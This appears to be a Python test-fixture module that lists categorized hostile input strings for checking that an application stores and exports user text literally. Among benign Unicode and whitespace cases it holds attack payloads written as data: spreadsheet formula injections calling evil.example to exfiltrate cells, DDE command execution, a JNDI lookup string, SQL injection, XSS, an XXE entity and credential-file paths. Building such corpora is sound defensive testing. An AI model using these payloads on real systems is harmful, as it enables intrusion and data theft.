"""A corpus of hostile strings for QUALITY.md R3 ("hostile input").

Every string here is a value a user could type or paste into a text field, and each
must be stored, exported, imported and printed *literally* (text fields are trimmed
of surrounding whitespace by the models, nothing else changes), must never crash
anything, and must never run as a formula in a spreadsheet.

Use ``HOSTILE_STRINGS`` (a flat ``list[str]``, over 200 entries, no duplicates) or
``HOSTILE_BY_CATEGORY`` (``dict[str, list[str]]``) to pick a family:

``markup``      ReportLab/HTML/XML markup and entities: ``<b>``, ``&amp;``, ``<para>``...
``quotes``      straight and curly quotes, apostrophes, backslashes, backticks
``rtl``         Arabic and Hebrew, mixed with Latin and digits, bidi control marks
``emoji``       single emoji, ZWJ sequences, flags, skin tones, keycaps
``combining``   combining marks, Zalgo text, decomposed accents
``scripts``     Cyrillic, Greek, CJK, Devanagari, Thai, homoglyphs
``long``        long texts, the longest a 10,000-character text
``formula``     spreadsheet formula triggers ``= + - @`` with tabs and CR/LF
``sql``         SQL fragments and injection attempts
``paths``       path-like strings: ``../../etc/passwd``, ``C:\\x``, UNC, URLs
``nullish``     ``None``, ``NULL``, ``null``, ``undefined``, ``NaN``, ``0``...
``whitespace``  whitespace variants: NBSP, ideographic space, zero-width characters,
                tabs and newlines inside text, only-whitespace values
``control``     C0 control characters other than NUL/TAB/LF/CR (ESC sequences,
                BEL, form feed...), which XML cannot carry unescaped
``format``      printf/format-string and template syntax: ``%s``, ``{0}``, ``${x}``

No string contains a NUL byte or a lone surrogate (neither can be stored as UTF-8
text in every backend).  Some are blank after trimming (only whitespace): use them in
optional fields, or filter with ``NON_BLANK``.  ``LONGEST`` is the 10,000-character
text (the ``notes`` limit); it does not fit fields with a lower limit.
"""

from __future__ import annotations

_MARKUP = [
    "<b>bold</b>",
    "<i>unclosed italic",
    "</para>",
    "<para>nested <para>paragraph</para></para>",
    "&amp;",
    "&amp;amp;",
    "&lt;b&gt;not bold&lt;/b&gt;",
    "A & B",
    "Tom & Jerry &",
    "&",
    "&&",
    "&nbsp;",
    "&#60;script&#62;",
    "&#x41;&#x42;",
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "<font color='red' size='40'>big</font>",
    "<br/><br/><br/>",
    "<seq id='x'/>",
    "<greek>a</greek>",
    "<![CDATA[ x ]]>",
    "<!-- comment -->",
    "<?xml version='1.0'?>",
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    "<onDraw name=x/>",
    "a < b > c",
    "<<>>",
    "1 < 2 && 3 > 2",
    "<strike>old</strike> new",
    "**markdown** _italic_ `code`",
    "[link](http://example.org)",
    "# heading",
    "| table | cell |",
]

_QUOTES = [
    "'",
    '"',
    "''",
    '""',
    "'single quoted'",
    '"double quoted"',
    "it's",
    "O'Brien",
    "“curly double”",
    "‘curly single’",
    "„low double“",
    "«guillemets»",
    "‹single guillemets›",
    "He said \"it's 'complicated'\"",
    '"unbalanced',
    "'unbalanced",
    "back\\slash",
    "\\",
    "\\\\server",
    "`backtick`",
    "quote at end'",
    '"";"";""',
    "a,b,c",
    '"a","b"',
    "semi;colon;list",
    "R-001;R-002",
    "tab\tseparated\tvalues",
]

_RTL = [
    "مرحبا بالعالم",
    "شراكة مع حلف الناتو",
    "שלום עולם",
    "שותפות עם משרד הביטחון",
    "English then عربي then English",
    "עברית 123 English",
    "\u202eRight-to-left override",
    "\u202dLeft-to-right override\u202c",
    "\u200fRLM mark",
    "\u200eLRM mark",
    "\u2067isolate\u2069",
    "(\u05d0) parenthesis",
    "٣٤٥ Arabic-Indic digits",
    "فارسی ۱۲۳",
    "اردو: ایک دو تین",
]

_EMOJI = [
    "🙂",
    "🚀 launch",
    "👩‍💻",
    "👨‍👩‍👧‍👦 family",
    "🏳️‍🌈",
    "🏴‍☠️",
    "🇺🇸🇬🇧🇫🇷",
    "👍🏽",
    "🧑🏿‍🤝‍🧑🏻",
    "1️⃣2️⃣3️⃣",
    "❤️",
    "⚠️ warning",
    "emoji in the middle 😀 of text",
    "🔥" * 50,
    "\U0001f600\U0001f603\U0001f604\U0001f601",
    "©®™",
    "𝕳𝖊𝖑𝖑𝖔 (mathematical fraktur)",
    "𝟘𝟙𝟚 (double-struck digits)",
]

_COMBINING = [
    "e\u0301",
    "Cafe\u0301 au lait",
    "n\u0303",
    "a\u0300\u0301\u0302\u0303\u0304",
    "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
    "T̸̢̧̛̯͉̤̫͎̲̳͚̠̞̟̪̲̈́̀̾͗̈́̔͆̽̑̅͘͝͝ͅë̵͙̹́s̸̡̜̮͇͓̄t̶̰̔",
    "\u0301leading combining mark",
    "ﬁ ligature",
    "Å vs Å (precomposed vs decomposed)",
    "ᄀᄀᄀ각ᆨᆨ",
    "\u0e01\u0e34\u0e4a",
    "क्षि",
]

_SCRIPTS = [
    "Министерство обороны",
    "Привет, мир",
    "Ελληνικά: Υπουργείο Άμυνας",
    "αβγδε ΑΒΓΔΕ",
    "中文：国防部合作",
    "日本語のテキスト",
    "한국어 텍스트",
    "हिन्दी पाठ",
    "ภาษาไทย",
    "Ꭰꭲꭿ Cherokee",
    "аррӏе (Cyrillic homoglyphs of apple)",
    "pаypаl.com (mixed script)",
    "İstanbul ıi",
    "Straße STRASSE",
    "ǅungla titlecase",
    "ß",
    "µ vs μ",
    "Ω vs Ω",
]

_LONG = [
    "x" * 200,
    "word " * 400,
    "long line without spaces " + "a" * 2000,
    "\n".join(f"line {i}" for i in range(500)),
    ("The company issued a clarification. " * 300)[:9_000],
    "é" * 5_000,
    "🙂" * 1_000,
    ("A" * 9_990) + "END.......",
]
LONGEST = ("Partnership risk note. " * 500)[:10_000]
_LONG.append(LONGEST)

_FORMULA_PAYLOADS = [
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://evil.example","click")',
    "cmd|' /C calc'!A0",
    "2+5+cmd|' /C calc'!A0",
    'WEBSERVICE("http://evil.example/?"&A1)',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'DDE("cmd";"/C calc";"!A0")',
    "-2+3",
    "@SUM(1,1)",
]
_FORMULA = []
for _prefix in ("=", "+", "-", "@"):
    for _payload in _FORMULA_PAYLOADS:
        _FORMULA.append(_prefix + _payload)
_FORMULA += [
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\t@SUM(1)",
    "\n+1",
    "=",
    "+",
    "-",
    "@",
    "'=1+1",
    "''=1+1",
    "'",
    "'hello",
    "'\t",
    "= 1",
    "-1",
    "-0.5",
    "+44 20 7946 0000",
    "@handle mentions",
    "-- dash led",
    "=cmd|' /C notepad'!'A1'",
    "text then =1+1",
    "tab inside\t=1+1",
    "line\n=1+1",
    "＝1+1 (full-width equals)",
    "%0A=1+1",
]

_SQL = [
    "'; DROP TABLE event; --",
    '"; DROP TABLE risk; --',
    "1 OR 1=1",
    "' OR '1'='1",
    "admin'--",
    "1; DELETE FROM audit_entry",
    "UNION SELECT * FROM app_meta",
    "Robert'); DROP TABLE Students;--",
    "%' AND 1=0 UNION SELECT sqlite_version() --",
    "SELECT * FROM stakeholder WHERE name LIKE '%'",
    "_%",
    "100%",
    "\\'; --",
    "/* comment */ SELECT 1",
    "') OR ('a'='a",
    "1' WAITFOR DELAY '0:0:5'--",
    "$1",
    ":name",
    "?",
    "?, ?, ?",
]

_PATHS = [
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "C:\\x",
    "C:\\Users\\Public\\report.xlsx",
    "\\\\server\\share\\file",
    "/dev/null",
    "/tmp/../../root",
    "file:///etc/shadow",
    "~/.ssh/id_rsa",
    "%APPDATA%\\x",
    "$HOME/x",
    "CON",
    "NUL.txt",
    "aux",
    "name.",
    "name ",
    'a/b\\c:d*e?f"g<h>i|j',
    "http://example.org/a?b=c&d=e#f",
    "javascript:alert(1)",
    "data:text/html,<b>x</b>",
    "mailto:someone@example.org",
]

_NULLISH = [
    "None",
    "NULL",
    "null",
    "nil",
    "undefined",
    "NaN",
    "nan",
    "inf",
    "-inf",
    "0",
    "0.0",
    "-0",
    "1e309",
    "False",
    "false",
    "TRUE",
    "N/A",
    "#N/A",
    "#REF!",
    "#DIV/0!",
    "[]",
    "{}",
    "()",
    '""',
    "''''",
    "-",
    "—",
    "…",
]

_WHITESPACE = [
    " ",
    "   ",
    "\t",
    "\n",
    "\r\n",
    " \t\r\n ",
    "\u00a0",
    "\u00a0non-breaking\u00a0space\u00a0",
    "\u3000ideographic space\u3000",
    "\u2003em space",
    "\u2009thin space",
    "\u200bzero\u200bwidth\u200bspace",
    "\u200c\u200d joiners",
    "\ufeffbyte order mark",
    "inner  double  spaces",
    "  leading and trailing  ",
    "line one\nline two",
    "line one\r\nline two",
    "carriage\rreturn",
    "tab\tinside",
    "\u2028line separator\u2029paragraph separator",
    "\x85next line",
    "trailing newline\n",
    "\n\nleading newlines",
]

_CONTROL = [
    "\x1b[31mred\x1b[0m",
    "bell\x07",
    "back\x08space",
    "form\x0cfeed",
    "vertical\x0btab",
    "\x01\x02\x03",
    "unit\x1fseparator",
    "\x7fdelete",
    "escape at end\x1b",
]

_FORMAT = [
    "%s %d %n",
    "%(name)s",
    "{0}",
    "{name}",
    "{{double}}",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<%= 7*7 %>",
    "#{7*7}",
    "\\u0041",
    "\\n literal backslash n",
    "_x000D_",
    "_x005F_x0041_",
]

HOSTILE_BY_CATEGORY: dict[str, list[str]] = {
    "markup": _MARKUP,
    "quotes": _QUOTES,
    "rtl": _RTL,
    "emoji": _EMOJI,
    "combining": _COMBINING,
    "scripts": _SCRIPTS,
    "long": _LONG,
    "formula": _FORMULA,
    "sql": _SQL,
    "paths": _PATHS,
    "nullish": _NULLISH,
    "whitespace": _WHITESPACE,
    "control": _CONTROL,
    "format": _FORMAT,
}


def _flatten() -> list[str]:
    seen: set[str] = set()
    out: list[str] = []
    for strings in HOSTILE_BY_CATEGORY.values():
        for text in strings:
            if text not in seen:
                seen.add(text)
                out.append(text)
    return out


HOSTILE_STRINGS: list[str] = _flatten()
NON_BLANK: list[str] = [s for s in HOSTILE_STRINGS if s.strip()]
SHORT: list[str] = [s for s in HOSTILE_STRINGS if len(s) <= 200]

assert len(HOSTILE_STRINGS) >= 200, len(HOSTILE_STRINGS)
assert not any("\x00" in s for s in HOSTILE_STRINGS)
